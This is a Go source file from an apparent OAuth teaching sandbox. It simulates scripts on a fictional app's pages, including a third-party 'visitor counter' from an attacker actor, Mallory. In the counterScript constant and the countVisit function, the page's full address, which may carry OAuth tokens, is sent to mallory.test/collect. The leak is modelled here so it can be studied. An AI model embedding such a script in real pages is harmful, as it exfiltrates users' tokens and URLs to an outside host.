package world

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"net/http"
	"net/url"
	"strings"

	"oauthplayground/playground/vnet/browser"
)

// script is what a page of the story runs in the browser that shows it. Pages carry their scripts as text, and because the
// browser has no JavaScript, each is written in Go as well, and does in the browser what its text says.
type script struct {
	text string // what stands in the page
	run  func(ctx context.Context, s *Sandbox, who string, b *browser.Browser, o browser.Options) error
}

// scripts is every script of every page, in the order in which a page runs them.
var scripts = []script{
	{text: counterTag, run: countVisit},
	{text: fragmentScript, run: sendFragment},
	{text: pageStartScript, run: startPageApp},
	{text: pageCallbackScript, run: answerPageApp},
}

const (
	// counterTag is how a page takes in the visitor counter that another company offers: Mallory's.
	counterTag = `<script src="https://mallory.test/counter.js"></script>`
	// counterScript is what that company's server answers.
	counterScript = "new Image().src = 'https://mallory.test/collect' + location.pathname + '?page=' + encodeURIComponent(location.href);\n"
	// fragmentScript is Planner's own, on its callback page in the one-step variant.
	fragmentScript = `
const form = document.createElement('form');
form.method = 'post';
form.action = '/callback/fragment';
for (const [name, value] of new URLSearchParams(location.hash.slice(1))) {
  const field = document.createElement('input');
  field.type = 'hidden';
  field.name = name;
  field.value = value;
  form.append(field);
}
document.body.append(form);
form.submit();
`
)

// sourceHash names a script in a Content-Security-Policy.
func sourceHash(text string) string {
	h := sha256.Sum256([]byte(text))
	return "'sha256-" + base64.StdEncoding.EncodeToString(h[:]) + "'"
}

// runScripts runs the scripts of the page that has just been loaded, until a page has none.
func (s *Sandbox) runScripts(ctx context.Context, who string, b *browser.Browser, o browser.Options) error {
	for range 5 { // a page whose script loads itself again would go on for ever
		page := b.Page()
		if page == nil || b.Pending() != nil || page.Scripted {
			return nil
		}
		page.Scripted = true
		for _, sc := range scripts {
			if !strings.HasPrefix(page.URL, plannerOrigin+"/") || !strings.Contains(page.Body, sc.text) {
				continue
			}
			if err := sc.run(ctx, s, who, b, o); err != nil {
				return err
			}
		}
	}
	return nil
}

// sendFragment is fragmentScript: servers never see a fragment, so it reads that of its own address and posts it to Planner.
func sendFragment(ctx context.Context, _ *Sandbox, _ string, b *browser.Browser, o browser.Options) error {
	_, fragment, _ := strings.Cut(b.Page().URL, "#")
	form, err := url.ParseQuery(fragment)
	if err != nil {
		return nil // nothing that this script understands
	}
	return b.Navigate(ctx, http.MethodPost, plannerOrigin+"/callback/fragment", form, o)
}

// countVisit is counterTag: the page loads a script of another company, and that script tells its company the page's whole
// address.
func countVisit(ctx context.Context, s *Sandbox, who string, b *browser.Browser, _ browser.Options) error {
	mallory, _ := actorByID(Attacker)
	page := b.Page()
	u, err := url.Parse(page.URL)
	if err != nil {
		return err
	}
	for _, load := range []struct{ address, dest string }{
		{mallory.URL + "/counter.js", "script"},
		{mallory.URL + "/collect" + u.EscapedPath() + "?page=" + url.QueryEscape(page.URL), "image"},
	} {
		req, err := http.NewRequest(http.MethodGet, load.address, nil)
		if err != nil {
			return err
		}
		req.Header.Set("Accept", "*/*")
		req.Header.Set("Referer", plannerOrigin+"/") // to another origin browsers say no more than the page's own
		req.Header.Set("Sec-Fetch-Dest", load.dest)
		req.Header.Set("Sec-Fetch-Mode", "no-cors")
		req.Header.Set("Sec-Fetch-Site", "cross-site")
		if _, _, _, err := s.call(withCause(ctx, page.Answer), who, req); err != nil {
			return nil // a page lives on without its counter
		}
	}
	return nil
}
